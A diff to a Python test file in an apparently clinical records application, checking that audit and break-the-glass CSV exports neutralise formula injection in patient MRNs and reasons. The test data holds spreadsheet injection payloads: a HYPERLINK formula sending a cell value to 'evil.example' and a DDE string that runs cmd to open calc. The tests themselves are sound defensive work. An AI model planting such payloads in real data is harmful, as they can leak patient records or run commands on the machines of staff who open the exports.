@@ -19,6 +19,7 @@ from waypoint.privacy.tests.test_consents_and_disclosures import consent_data
 from waypoint.web.downloads import attachment, spreadsheet_safe
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+MRN_FORMULA = '=HYPERLINK("http://e.x/")'  # within the MRN's 32 characters
 REASON = "Found unresponsive in the day room, need allergies now"
 
 
@@ -37,10 +38,10 @@ def test_plain_text_and_numbers_are_written_as_they_are():
 
 
 def test_the_audit_csv_neutralises_a_formula_mrn(page, privacy_officer, nurse, patient):
-    Patient.objects.filter(pk=patient.pk).update(mrn=FORMULA)
+    Patient.objects.filter(pk=patient.pk).update(mrn=MRN_FORMULA)
     audit.record(nurse, "patient.chart.read", patient=patient)
     rows = table(page(privacy_officer).get("/audit/", {"action": "patient.chart.read", "format": "csv"}))
-    assert rows and {row["mrn"] for row in rows} == {"'" + FORMULA}
+    assert rows and {row["mrn"] for row in rows} == {"'" + MRN_FORMULA}
 
 
 def test_the_break_the_glass_csv_neutralises_a_formula_mrn_and_reason(
@@ -53,9 +54,9 @@ def test_the_break_the_glass_csv_neutralises_a_formula_mrn_and_reason(
         reason="@SUM(1+1)*cmd|' /C calc'!A0 " + REASON,
         expires_at=timezone.now(),
     )
-    Patient.objects.filter(pk=patient.pk).update(mrn=FORMULA)
+    Patient.objects.filter(pk=patient.pk).update(mrn=MRN_FORMULA)
     [row] = table(page(privacy_officer).get("/privacy/break-the-glass/", {"format": "csv"}))
-    assert row["patient_mrn"] == "'" + FORMULA and row["reason"].startswith("'@SUM")
+    assert row["patient_mrn"] == "'" + MRN_FORMULA and row["reason"].startswith("'@SUM")
 
 
 def test_the_accounting_of_disclosures_csv_neutralises_a_formula_recipient(page, nurse, patient):
